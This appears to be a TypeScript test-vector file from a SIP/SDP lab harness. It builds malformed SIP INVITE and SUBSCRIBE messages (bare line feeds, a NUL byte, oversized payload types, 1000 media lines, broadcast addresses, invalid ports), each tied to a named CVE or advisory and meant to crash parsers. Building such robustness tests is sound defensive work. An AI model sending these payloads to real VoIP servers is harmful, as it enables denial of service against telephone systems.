/** AM02 to AM12: bodies meant to break whoever reads them. */
import type { Octets } from '../../../core/lib/octets.ts'
import { lab } from '../lab.ts'
import type { Vector } from '../vector.ts'
import { compose, offer } from './compose.ts'

const CONNECTION = `c=IN IP4 ${lab.source.host}`

export const sessionAbuse: readonly Vector[] = [
  {
    name: 'AM02',
    title: 'bare-lf-multipart',
    section: 'AST-2017-003 (ES2017-02)',
    octets: bareLfMultipart('AM02'),
    transportNote: 'The Content-Type line of the head ends in a bare LF too, as does every line of the body.',
  },
  {
    name: 'AM03',
    title: 'accept-x50',
    section: 'CVE-2018-7284 (ES2018-01)',
    octets: compose('AM03', {
      method: 'SUBSCRIBE',
      extra: [
        'Event: presence',
        'Expires: 600',
        ...Array.from({ length: 50 }, (_, at) => `Accept: application/x-${at}`),
      ],
    }),
  },
  {
    name: 'AM04',
    title: 'sdp-fmtp-nul',
    section: 'CVE-2018-1000099 (ES2018-02)',
    octets: invite('AM04', [CONNECTION, 't=0 0', 'm=audio 17000 RTP/AVP 0', 'a=fmtp:\x00']),
  },
  {
    name: 'AM05',
    title: 'sdp-pt-2e32',
    section: 'CVE-2018-1000098 (ES2018-03)',
    octets: invite('AM05', [CONNECTION, 't=0 0', 'm=audio 17000 RTP/AVP 4294967296']),
  },
  {
    name: 'AM06',
    title: 'sdp-no-final-newline',
    section: 'CVE-2023-27600, CVE-2023-27601',
    octets: compose('AM06', { method: 'INVITE', body: offer().slice(0, -2) }),
  },
  {
    name: 'AM07',
    title: 'sdp-b-without-colon',
    section: 'CVE-2026-46334',
    octets: invite('AM07', [CONNECTION, 'b=AS64', 't=0 0', 'm=audio 17000 RTP/AVP 0']),
  },
  {
    name: 'AM08',
    title: 'sdp-1000-m-lines',
    section: 'resource bound',
    octets: invite('AM08', [
      CONNECTION,
      't=0 0',
      ...Array.from({ length: 1000 }, (_, at) => `m=audio ${20_000 + 2 * at} RTP/AVP 0`),
    ]),
  },
  {
    name: 'AM09',
    title: 'sdp-c-broadcast',
    section: 'RFC 4475 3.3.10 applied to media',
    octets: invite('AM09', ['c=IN IP4 255.255.255.255', 't=0 0', 'm=audio 17000 RTP/AVP 0']),
  },
  {
    name: 'AM10',
    title: 'sdp-c-multicast',
    section: 'reflection',
    octets: invite('AM10', ['c=IN IP4 224.2.17.12/127', 't=0 0', 'm=audio 17000 RTP/AVP 0']),
  },
  {
    name: 'AM11',
    title: 'sdp-port-70000',
    section: 'range',
    octets: invite('AM11', [CONNECTION, 't=0 0', 'm=audio 70000 RTP/AVP 0']),
  },
  {
    name: 'AM12',
    title: 'sdp-port-negative',
    section: 'range',
    octets: invite('AM12', [CONNECTION, 't=0 0', 'm=audio -1 RTP/AVP 0']),
  },
]

function invite(id: string, lines: readonly Octets[]): Octets {
  return compose(id, { method: 'INVITE', body: offer(...lines) })
}

function bareLfMultipart(id: string): Octets {
  const parts = ['--edge', 'Content-Type: application/sdp', '', ...offer().split('\r\n'), '--edge--', '']
  return compose(id, {
    method: 'INVITE',
    lines: { 'Content-Type': 'Content-Type: multipart/mixed;boundary=edge\nX-After-Bare-LF: 1' },
    body: parts.join('\n'),
  })
}
